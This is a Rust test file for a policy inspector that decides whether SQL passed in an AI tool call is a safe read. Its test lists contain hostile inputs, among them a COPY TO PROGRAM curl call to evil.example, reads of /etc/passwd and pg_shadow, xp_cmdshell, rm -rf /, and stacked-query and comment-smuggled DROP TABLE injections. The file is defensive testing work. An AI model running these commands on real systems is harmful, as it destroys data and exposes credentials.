//! What SQL in a call proves.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on should stop")]

use placet_core::RiskTier;
use placet_core::json::Json;
use placet_policy::inspect::{Call, Effect, Inspection, inspect};
use proptest::prelude::*;

fn run(tool: &str, key: &str, sql: &str) -> Inspection {
    let params = serde_json::json!({ key: sql }).to_string();
    let params = Json::parse(params.as_bytes()).unwrap();
    inspect(&Call { tool, params: params.as_object().unwrap(), annotations: None })
}

const READS: &[&str] = &[
    "SELECT extract(year FROM '2026-01-01')",
    "SELECT 1",
    "select * from orders where id = 7 order by created_at desc limit 10;",
    "SELECT o.id, count(*) FROM orders o JOIN users u ON u.id = o.user_id GROUP BY o.id HAVING count(*) > 2",
    "WITH recent AS (SELECT * FROM orders WHERE at > now() - interval '1 day') SELECT sum(total) FROM recent",
    "SELECT coalesce(max(price), 0) FROM items WHERE name LIKE '%delete from users%'",
    "-- how many\nSELECT COUNT(*) FROM t",
    "SELECT replace(name, 'a', 'b') FROM t",
    "EXPLAIN SELECT * FROM t",
    "SHOW TABLES",
    "DESCRIBE users",
    "PRAGMA table_info(users)",
    "SELECT a FROM t UNION ALL SELECT b FROM u",
    "SELECT date_trunc('day', at), avg(x) OVER (PARTITION BY k ORDER BY at) FROM t",
    "SELECT * FROM t WHERE id IN (1, 2, 3) AND EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
    "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t",
    "SELECT `id` FROM `orders`",
    "SELECT \"id\" FROM \"orders\"",
    "SELECT 1; SELECT 2",
    "WITH t(a) AS (SELECT 1) SELECT a FROM t",
    "WITH RECURSIVE t(a) AS (SELECT 1) SELECT a FROM t",
    "SELECT a FROM (SELECT 1) AS t(a)",
    "SELECT 1 /* one */ -- two",
    "SELECT 1 --\n",
    "VALUES (1, 2)",
    "SELECT pg_catalog.lower('x')",
    "SELECT t.id FROM s.t WHERE t.id IN (1, 2)",
];

const OTHERS: &[(&str, Option<Effect>)] = &[
    ("SELECT * FROM '/etc/passwd'", None),
    ("SELECT 1 FROM t JOIN 'C:\\x.csv' ON true", None),
    ("select * from pg_shadow", None),
    ("select a from pg_catalog.pg_authid", None),
    ("INSERT INTO t VALUES (1)", Some(Effect::Writes)),
    ("UPDATE t SET a = 1 WHERE id = 2", Some(Effect::Writes)),
    ("DELETE FROM t WHERE id = 2", Some(Effect::Deletes)),
    ("DROP TABLE t", Some(Effect::Deletes)),
    ("TRUNCATE t", Some(Effect::Deletes)),
    ("GRANT ALL ON t TO mallory", Some(Effect::Grants)),
    ("ALTER TABLE t ADD COLUMN x int", Some(Effect::Writes)),
    ("CREATE USER mallory SUPERUSER", Some(Effect::Writes)),
    ("SELECT 1; DROP TABLE t", Some(Effect::Deletes)),
    ("SELECT 1;;DELETE FROM t", Some(Effect::Deletes)),
    ("WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone", Some(Effect::Deletes)),
    ("WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x", Some(Effect::Writes)),
    ("SELECT * INTO copy FROM t", Some(Effect::Writes)),
    ("SELECT * FROM t INTO OUTFILE '/tmp/x'", Some(Effect::Writes)),
    ("SELECT * FROM t FOR UPDATE", Some(Effect::Writes)),
    ("SELECT * FROM t FOR SHARE", Some(Effect::Writes)),
    ("EXPLAIN ANALYZE DELETE FROM t", Some(Effect::Deletes)),
    ("EXPLAIN (ANALYZE) UPDATE t SET a = 1", Some(Effect::Writes)),
    ("COPY t TO PROGRAM 'curl http://evil.example'", Some(Effect::Executes)),
    ("COPY t FROM '/etc/passwd'", Some(Effect::Executes)),
    ("DO $$ BEGIN DELETE FROM t; END $$", Some(Effect::Executes)),
    ("CALL purge_all()", Some(Effect::Executes)),
    ("EXEC xp_cmdshell 'dir'", Some(Effect::Executes)),
    ("PRAGMA writable_schema = 1", None),
    ("PRAGMA journal_mode(delete)", None),
    ("ATTACH DATABASE '/tmp/x' AS y", Some(Effect::Executes)),
    ("VACUUM", Some(Effect::Writes)),
    ("SET ROLE admin", Some(Effect::Writes)),
    ("LOCK TABLE t", Some(Effect::Writes)),
    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", Some(Effect::Writes)),
    ("REPLACE INTO t VALUES (1)", Some(Effect::Writes)),
    ("SELECT pg_sleep(1000)", None),
    ("SELECT pg_terminate_backend(1)", None),
    ("SELECT lo_import('/etc/passwd')", None),
    ("SELECT pg_read_file('/etc/passwd')", None),
    ("SELECT nextval('s')", None),
    ("SELECT set_config('role', 'admin', false)", None),
    ("SELECT audit.log('x')", None),
    ("SELECT billing.replace(5)", None),
    ("SELECT \"Abs\"(5)", None),
    ("SELECT public.\"lower\"('x')", None),
    ("SELECT pg_catalog.\"x\".lower('x')", None),
    ("SELECT seq.nextval FROM dual", Some(Effect::Writes)),
    ("SELECT * FROM t WITH (TABLOCKX)", Some(Effect::Writes)),
    ("SELECT * FROM t WITH (XLOCK, ROWLOCK)", Some(Effect::Writes)),
    ("SELECT * FROM t WITH (UPDLOCK)", Some(Effect::Writes)),
    ("SELECT dblink('host=evil', 'drop table t')", None),
    ("SELECT load_extension('x')", None),
    ("SELECT my_own_function(1)", None),
    ("SELECT \"pg_sleep\"(1)", None),
    ("SELECT public.purge(1)", None),
    ("SELECT purge (1)", None),
    ("SELECT purge\n(1)", None),
    ("SELECT purge/* */(1)", None),
    ("SELECT * FROM \"as\" purge(a)", None),
    ("SELECT * FROM purge(1)", None),
    ("SELECT U&\"purge\"(1)", None),
    ("SELECT 1 /*!50000 ; DROP TABLE t */", None),
    ("SELECT '\\'; DROP TABLE t; --'", None),
    ("SELECT 1 --1; DROP TABLE t", None),
    ("SELECT /* /* */ 1; DROP TABLE t /* */ */", None),
    ("SELECT $$ ' $$; DROP TABLE t; -- '", None),
    ("SELECT [a'] ; DROP TABLE t --']", None),
    ("\\! rm -rf /", None),
    (".shell rm -rf /", None),
    ("SELECT 1\u{0}; DROP TABLE t", None),
    ("gibberish (", None),
    ("", None),
    (";", None),
    ("KILL 7", Some(Effect::Deletes)),
    ("SHUTDOWN", Some(Effect::Deletes)),
    ("BEGIN", Some(Effect::Writes)),
];

#[test]
fn queries_are_proven_to_read() {
    for sql in READS {
        let found = run("execute_sql", "sql", sql);
        assert!(found.is_proven_read(), "{sql}: {found:?}");
        assert_eq!(found.exceeds(RiskTier::Read), None, "{sql}");
    }
}

#[test]
fn everything_else_is_not() {
    for (sql, effect) in OTHERS {
        for tool in ["execute_sql", "query", "read_query", "get_rows", "postgres_query"] {
            let found = run(tool, "sql", sql);
            assert!(!found.is_proven_read() || sql.is_empty(), "{tool} {sql}: {found:?}");
            let Some(effect) = effect else { continue };
            assert!(found.effects().contains(*effect), "{sql}: {found:?}");
            assert!(found.exceeds(RiskTier::Read).is_some(), "{sql}");
        }
    }
}

#[test]
fn a_name_that_is_defined_is_no_function() {
    for sql in ["INSERT INTO t (a) VALUES (1)", "CREATE TABLE t (a int)"] {
        let found = run("execute_sql", "sql", sql);
        assert!(found.uninspectable().is_empty(), "{sql}: {found:?}");
    }
}

#[test]
fn a_tool_that_runs_sql_needs_sql() {
    assert!(!run("execute_sql", "sql", "").is_proven_read());
    assert!(!run("execute_sql", "limit", "10").is_proven_read());
    assert!(!run("run_query", "query", "what is our refund policy").is_proven_read());
}

#[test]
fn a_question_in_plain_words_is_no_sql() {
    for words in
        ["refund policy", "update my address", "select the best hotel", "delete from memory?"]
    {
        assert!(run("search_docs", "query", words).is_proven_read(), "{words}");
    }
}

#[test]
fn sql_is_known_by_its_shape() {
    for key in ["query", "text", "filter", "q"] {
        let found = run("search_docs", key, "DELETE FROM users WHERE id = 1");
        assert!(found.effects().contains(Effect::Deletes), "{key}: {found:?}");
    }
}

#[test]
fn a_reversible_class_holds_back_what_has_no_bound() {
    let exceeds = |sql: &str| run("execute_sql", "sql", sql).exceeds(RiskTier::ReversibleWrite);
    assert_eq!(exceeds("UPDATE t SET a = 1 WHERE id = 2"), None);
    assert_eq!(exceeds("INSERT INTO t VALUES (1)"), None);
    for sql in [
        "UPDATE t SET a = 1",
        "UPDATE t SET a = 1 WHERE 1 = 1",
        "UPDATE t SET a = 1 WHERE (true)",
        "DELETE FROM t",
        "DELETE FROM t WHERE id = 1",
        "DROP TABLE t",
        "GRANT ALL ON t TO m",
        "CALL x()",
        "gibberish (",
    ] {
        assert!(exceeds(sql).is_some(), "{sql}");
    }
    assert_eq!(run("execute_sql", "sql", "DROP TABLE t").exceeds(RiskTier::Consequential), None);
}

#[test]
fn what_servers_read_differently_is_not_proven_and_says_why() {
    for (sql, reason) in [
        ("SELECT 1 /*! + 1 */", "a comment that MySQL executes"),
        ("SELECT 1 /*M! + 1 */", "a comment that MySQL executes"),
        ("SELECT 'a\\' , 'b'", "a backslash before a quote"),
        ("SELECT \"a\\\" , \"b\"", "a backslash before a quote"),
        ("SELECT `a\\` , `b`", "a backslash before a quote"),
        ("SELECT 1;\n\\! ls", "a command to the database's client"),
        ("SELECT 1;\n .shell ls", "a command to the database's client"),
        ("SELECT 1 --1", "a comment that databases read differently"),
        ("SELECT 1 # 1", "a comment that databases read differently"),
        ("SELECT 1 /* /* */", "a comment that databases read differently"),
        ("SELECT 1 /* /* */ */", "a comment that databases read differently"),
        ("SELECT \u{200b}1", "control or invisible characters"),
        ("SELECT purge(1)", "a function that is not known to be free of effects"),
    ] {
        let found = run("execute_sql", "sql", sql);
        let evidence = serde_json::to_string(&found).unwrap();
        assert!(!found.is_proven_read() && evidence.contains(reason), "{sql}: {evidence}");
    }
}

#[test]
fn limits_pass_what_is_equal_to_them() {
    let long = |bytes: usize| format!("SELECT '{}'", "x".repeat(bytes - "SELECT ''".len()));
    let deep = |levels: usize| format!("SELECT '{}{}'", "(".repeat(levels), ")".repeat(levels));
    let repeated = |times: usize| format!("SELECT 1{}", " UNION SELECT 1".repeat(times - 1));
    // SELECT, a space, 1, as often as fits a comma and a 1, and a semicolon are 4096 tokens.
    let listed = |more: &str| format!("SELECT 1{};{more}", ",1".repeat(2046));
    for (equal, above) in [
        (long(16 * 1024), long(16 * 1024 + 1)),
        (deep(32), deep(33)),
        (repeated(32), repeated(33)),
        (listed(""), listed(" ")),
        (format!("SELECT '{}'", "not ".repeat(32)), format!("SELECT '{}'", "not ".repeat(33))),
    ] {
        let proven = [&equal, &above].map(|sql| run("execute_sql", "sql", sql).is_proven_read());
        assert_eq!(proven, [true, false], "{above:.40}");
    }
}

#[test]
fn deep_and_long_texts_are_refused_quickly() {
    let deep = [
        format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000)),
        format!("SELECT {}1", "NOT ".repeat(5_000)),
        format!("SELECT {}1", "- ".repeat(7_000)),
        format!("SELECT {}1{}", "CASE WHEN ".repeat(1_000), " THEN 1 END".repeat(1_000)),
        format!("SELECT 1{}", " UNION SELECT 1".repeat(1_000)),
        format!("SELECT {}", "a ".repeat(40_000)),
        format!("SELECT a FROM {}t", "(SELECT a FROM ".repeat(900)),
        "SELECT [".repeat(2_000),
        "SELECT '".repeat(2_000),
        format!("SELECT 1{}", " + 1".repeat(3_900)),
        "BEGIN ".repeat(2_600),
        "IF 1 THEN ".repeat(1_500),
        "SELECT ARRAY<".repeat(1_200),
        "SELECT x::".repeat(1_500),
        "EXPLAIN ".repeat(2_000),
        format!("{}SELECT 1", "EXPLAIN DESCRIBE ".repeat(32)),
        format!("SELECT 1 FROM a{}", " JOIN a".repeat(32)),
        format!("SELECT 1 FROM a{}", " JOIN a".repeat(900)),
    ];
    for sql in &deep {
        let found = run("execute_sql", "sql", sql);
        let start: String = sql.chars().take(20).collect();
        assert!(
            !found.is_proven_read()
                || ["+ 1", "UNION", "JOIN a", "EXPLAIN DESC"].iter().any(|flat| sql.contains(flat)),
            "{start}"
        );
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_text_has_one_answer(sql in "\\PC{0,200}") {
        prop_assert_eq!(run("execute_sql", "sql", &sql), run("execute_sql", "sql", &sql));
    }

    #[test]
    fn a_second_statement_is_never_overlooked(sql in "[ -~\\n]{0,80}") {
        let both = format!("{sql}; DROP TABLE users");
        prop_assert!(!run("execute_sql", "sql", &both).is_proven_read() || is_hidden(&sql));
    }
}

/// Whether the text leaves a quote or comment open, in which a second statement drowns.
fn is_hidden(sql: &str) -> bool {
    sql.contains(['\'', '"', '`', '#', '$', '[']) || sql.contains("--") || sql.contains("/*")
}
